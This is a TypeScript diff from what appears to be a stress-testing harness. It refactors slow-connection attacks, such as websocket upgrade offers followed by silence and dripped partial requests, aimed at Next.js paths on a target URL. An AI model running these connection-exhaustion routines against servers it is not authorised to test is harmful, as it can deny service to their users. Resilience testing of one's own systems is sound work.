@@ -94,7 +94,7 @@ const connections = async (
 const clients = async (
   { site }: Target,
   count: number,
-  waysOf: (...own: string[]) => Piece[][],
+  waysOf: (host: string) => Piece[][],
   ms: number,
 ): Promise<Outcome> => {
   const { host, port } = new URL(site);
@@ -119,18 +119,6 @@ const drips = (piece: string) =>
   Array.from({ length: SLOW_MS / 1_000 }, (): Piece[] => [1_000, piece]).flat();
 /** Addresses that Next answers itself. */
 const NEXT_ANSWERS = ["/contact/", "/en/", "/hi//x", "//host/x", "/_next/static/nope.js"];
-
-/** Offers an upgrade on this many connections, and then sends nothing more. */
-export const offerUpgrades = (target: Target, count: number): Promise<Outcome> =>
-  clients(
-    target,
-    count,
-    (host) =>
-      NEXT_ANSWERS.map((path) => [
-        head(`GET ${path} HTTP/1.1`, host, "Connection: Upgrade", "Upgrade: websocket"),
-      ]),
-    SILENT_MS,
-  );
 
 const PIPELINED = 40;
 const HEAD_EVERY_MS = 2_000;
@@ -177,7 +165,10 @@ export const ATTACKS = {
   /** Offers to upgrade, and then silence. */
   upgrades: async (target, size, begin) => {
     begin();
-    return offerUpgrades(target, size);
+    const offer = ["Connection: Upgrade", "Upgrade: websocket"];
+    const waysOf = (host: string) =>
+      NEXT_ANSWERS.map((path) => [head(`GET ${path} HTTP/1.1`, host, ...offer)]);
+    return clients(target, size, waysOf, SILENT_MS);
   },
 
   /** Connections that send a small request now and then. */
